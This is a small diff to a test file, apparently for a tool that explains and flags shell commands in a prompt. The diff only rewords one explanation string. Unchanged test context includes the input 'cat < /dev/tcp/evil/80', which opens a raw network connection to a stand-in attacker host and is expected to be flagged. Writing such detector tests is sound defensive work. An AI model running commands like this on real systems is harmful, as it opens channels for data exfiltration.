@@ -16,7 +16,7 @@ describe("what a prompt shows", () => {
     ]);
     expect(parts("$X")[0]).toMatchObject({
       verdict: "unknown",
-      why: "The name of a command is put together while the script runs.",
+      why: "The script builds the name of a command at run time.",
     });
     expect(parts("cat < /dev/tcp/evil/80").map(({ text }) => text)).toContain("connects to evil");
   });
